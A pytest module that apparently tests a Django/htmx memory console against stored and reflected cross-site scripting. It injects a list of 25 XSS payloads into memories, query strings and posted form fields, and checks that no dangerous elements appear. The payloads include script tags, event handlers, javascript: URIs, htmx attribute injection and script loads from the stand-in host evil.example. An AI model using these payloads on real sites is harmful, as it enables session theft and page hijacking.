"""Stored and reflected script: 25 payloads wherever text can stand, on every page and fragment there is.

The payload pages are held against the same pages with harmless words: what is written in a memory may
change what a page says, never which kinds of element it has nor which of them htmx acts on.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import TYPE_CHECKING, Any

import pytest
from console.addresses import ADMINS, PAGES, POSTED, READ, Address, named
from console.page_structure import Structure, dangers, structure
from console.people import BACKEND
from console.worlds import Held, Stored, hold, other_arguments, store
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from django.utils.http import urlencode

from memories.console.repository_access import using
from memories.repository import MemoryRepository
from memories.settings import load_settings

if TYPE_CHECKING:
    from memories.embedding.base import Embedder

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("jobs_wait")]

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "x onpointerenter=alert(1) y=",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    '" hx-get="//evil.example" hx-trigger="load" x="',
    "<div hx-on:load='alert(1)' data-hx-get='//evil.example'>",
    '" style="background:url(//evil.example)',
    "<style>@import '//evil.example/x.css'</style>",
    "{{ 7|add:7 }}{% debug %}${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
)
HARMLESS = "harbour"
FRAGMENT = {"HX-Request": "true", "HX-Current-URL": "http://localhost/memories/"}
SINGLE = frozenset({"q", "next"})
"""Values of a query that one payload after the other is tried as; for others several are put together."""


def together(most: int) -> list[str]:
    """The payloads in as few texts of at most so many characters."""
    texts = [""]
    for text in PAYLOADS:
        if len(texts[-1]) + len(text) > most:
            texts.append("")
        texts[-1] += text
    return texts


TOGETHER = together(most=190)
QUERIES: Mapping[str, Mapping[str, str]] = {
    "console:search_lab": {"q": "harbour port 8410", "mode": "hybrid", "top_k": "50", "all": "1"},
    "console:bulk_preview": {"action": "supersede", "find": "port"},
}
"""What to ask of addresses that show memories only when they are asked for some."""


def served(home: Any, embedder: Embedder) -> MemoryRepository:
    return MemoryRepository(
        load_settings(hermes_home=home, environ={"MEMSUITE_FSYNC": "off"}), embedder, lock_wait=1.0
    )


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, fast_embedder: Embedder
) -> Iterator[tuple[MemoryRepository, list[Stored]]]:
    """A database of payloads. Pages are looked at; nothing here is changed."""
    repository = served(tmp_path_factory.mktemp("hostile"), fast_embedder)
    yield repository, store(repository, PAYLOADS)
    repository.close()


@pytest.fixture(scope="module")
def harmless(
    tmp_path_factory: pytest.TempPathFactory, fast_embedder: Embedder
) -> Iterator[tuple[MemoryRepository, list[Stored]]]:
    repository = served(tmp_path_factory.mktemp("harmless"), fast_embedder)
    yield repository, store(repository, [HARMLESS, f"{HARMLESS}s"])
    repository.close()


def browser(held: Held) -> Client:
    client = Client(headers={"host": "localhost"}, raise_request_exception=False)
    client.force_login(held.user, backend=BACKEND)
    return client


def looked_at(client: Client, path: str, query: Mapping[str, str] | None = None) -> Iterator[Structure]:
    """The page and the fragment of an address."""
    asked = f"{path}?{urlencode(query)}" if query else path
    for headers in ({}, FRAGMENT):
        answer = client.get(asked, headers=headers, follow=True)
        assert answer.status_code < 500, f"{asked} {answer.status_code}"
        yield structure(html_of(answer))


def html_of(answer: HttpResponse) -> str:
    """The page of an answer; "" for a download, which no browser shows."""
    is_page = answer.headers.get("Content-Type", "").startswith("text/html")
    return answer.content.decode() if is_page else ""


def refused(read: Structure) -> list[str]:
    return list(dangers(read))


@pytest.mark.parametrize("address", READ, ids=named)
def test_what_is_stored_stays_text(
    address: Address,
    hostile: tuple[MemoryRepository, list[Stored]],
    harmless: tuple[MemoryRepository, list[Stored]],
) -> None:
    known = [read for _, read in crawl(address, *harmless)]
    shapes = frozenset().union(*(read.shapes for read in known))
    elements = frozenset().union(*(read.elements for read in known))

    for text, read in crawl(address, *hostile):
        assert refused(read) == [], text
        assert read.shapes <= shapes, text
        assert read.elements <= elements, text


def crawl(
    address: Address, repository: MemoryRepository, stored: list[Stored]
) -> Iterator[tuple[str, Structure]]:
    """Everything the address shows of a world: each object of each text, or the one page with all of them."""
    with using(repository):
        everyone = [(one, hold(repository, one)) for one in stored]
        client = browser(everyone[0][1])
        if not address.arguments:
            query = {"size": "100"} | dict(QUERIES.get(address.name, {}))
            yield from (("all of them", read) for read in looked_at(client, address.path_with({}), query))
            return
        query = dict(QUERIES.get(address.name, {}))
        for one, held in everyone:
            client.force_login(held.user, backend=BACKEND)
            for values in other_arguments(one, held):
                yield from ((one.text, read) for read in looked_at(client, address.path_with(values), query))


@pytest.mark.parametrize("address", READ, ids=named)
def test_what_an_address_says_stays_text(
    address: Address, hostile: tuple[MemoryRepository, list[Stored]]
) -> None:
    repository, stored = hostile
    with using(repository):
        held = hold(repository, stored[0])
        client = browser(held)
        if address.name == "console:login":
            client.logout()
        path = address.path_with(dict(held.arguments))
        for number, query in enumerate(queries(names_asked(client, path))):
            # By turns as a page and as a fragment.
            answer = client.get(path, query, headers=FRAGMENT if number % 2 else {}, follow=True)
            assert answer.status_code < 500, query
            assert refused(structure(html_of(answer))) == [], query


def names_asked(client: Client, path: str) -> list[str]:
    """The names a query of this address may have: the fields of its forms, and those any page reads."""
    fields = frozenset().union(*(read.asks for read in looked_at(client, path)))
    return sorted(fields | {"q", "next", "action", "value", "target", "tag", "offset", "size", "sort"})


def queries(names: list[str]) -> Iterator[dict[str, str]]:
    for name in names:
        yield from ({name: text} for text in (PAYLOADS if name in SINGLE else TOGETHER))
    yield dict.fromkeys(names, PAYLOADS[0])


@pytest.mark.parametrize("address", POSTED, ids=named)
def test_what_is_typed_stays_text(
    address: Address, repository: MemoryRepository, fields_posted: list[str]
) -> None:
    # Over a database of its own, since this writes what it may. What comes back is shown whether it was
    # taken, refused at its field, or asked about.
    held = hold(repository, store(repository, [HARMLESS])[0])
    client = browser(held)
    path = address.path_with(dict(held.arguments))
    for number, sent in enumerate(typed(fields_posted, held)):
        if "_auth_user_id" not in client.session:
            client.force_login(held.user, backend=BACKEND)
        answer = client.post(path, sent, headers=FRAGMENT if number % 2 else {}, follow=True)
        assert answer.status_code < 500, (sent, answer.status_code)
        assert refused(structure(html_of(answer))) == [], sent


@pytest.fixture(scope="module")
def known_fields() -> list[str]:
    return []


@pytest.fixture
def fields_posted(
    known_fields: list[str], harmless: tuple[MemoryRepository, list[Stored]], person: Any
) -> list[str]:
    """The names of the fields of all forms that post, on any page; looked for once."""
    if not known_fields:
        repository, stored = harmless
        with using(repository):
            held = hold(repository, stored[1])
            client = browser(held)
            paths = [address.path_with(dict(held.arguments)) for address in READ]
            names = frozenset().union(*(read.posts for path in paths for read in looked_at(client, path)))
        assert {"domain", "subject", "fact", "action", "name"} <= names
        known_fields.extend(sorted(names - {"csrfmiddlewaretoken"}))
    return known_fields


def typed(names: list[str], held: Held) -> Iterator[dict[str, str]]:
    """Every field holds a payload; then all but those that must fit for it to be taken."""
    yield from (dict.fromkeys(names, text) for text in TOGETHER)
    fits = {"tier": "2", "category": "tech", "quality": "0.5", "action": "add_tags", "base_revision": "1"}
    fits |= {"ids": held.arguments["memory_id"], "of": "memories", "edit": "check", "filter": ""}
    for text in PAYLOADS:
        label = text.translate(str.maketrans("", "", ":[]"))
        named = {"domain": label[:30], "subject": label, "relation_type": "uses"}
        yield dict.fromkeys(names, text) | fits | named


@pytest.mark.parametrize("path", ADMINS)
def test_lists_of_people_and_groups_stay_text(
    path: str, hostile: tuple[MemoryRepository, list[Stored]]
) -> None:
    repository, stored = hostile
    with using(repository):
        everyone = [hold(repository, one) for one in stored]
        for query in ({}, {"q": PAYLOADS[3], "o": PAYLOADS[6], "e": "1", "_popup": PAYLOADS[0]}):
            for read in looked_at(browser(everyone[0]), path, query):
                assert refused(read) == []


@pytest.mark.parametrize("action", ["change", "delete", "history"])
@pytest.mark.parametrize("kind", ["user", "group"])
def test_names_of_people_and_groups_stay_text(
    kind: str, action: str, hostile: tuple[MemoryRepository, list[Stored]]
) -> None:
    repository, stored = hostile
    with using(repository):
        for one in stored:
            held = hold(repository, one)
            key = held.user.pk if kind == "user" else held.user.groups.get().pk
            answer = browser(held).get(reverse(f"admin:auth_{kind}_{action}", args=[key]))
            assert answer.status_code in (200, 403)
            assert refused(structure(html_of(answer))) == [], one.text


def test_every_address_is_looked_at_or_typed_into() -> None:
    assert {address.name for address in PAGES} == {address.name for address in (*READ, *POSTED)}


@pytest.mark.parametrize(
    "page",
    [
        "<script>x</script>",
        "<script src='//evil.example/x.js'></script>",
        "<p onclick='x'>",
        "<p style='x'>",
        "<a href='java&#9;script:x'>",
        "<a href='//evil.example'>",
        "<a href='/\\evil.example' formaction='https://evil.example'>",
        "<i hx-get='//evil.example'>",
        "<i hx-on:load='x'>",
        "<i hx-vals='js:x'>",
        "<iframe>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<svg><a xlink:href='javascript:x'>",
    ],
)
def test_what_is_dangerous_is_seen(page: str) -> None:
    assert refused(structure(page))
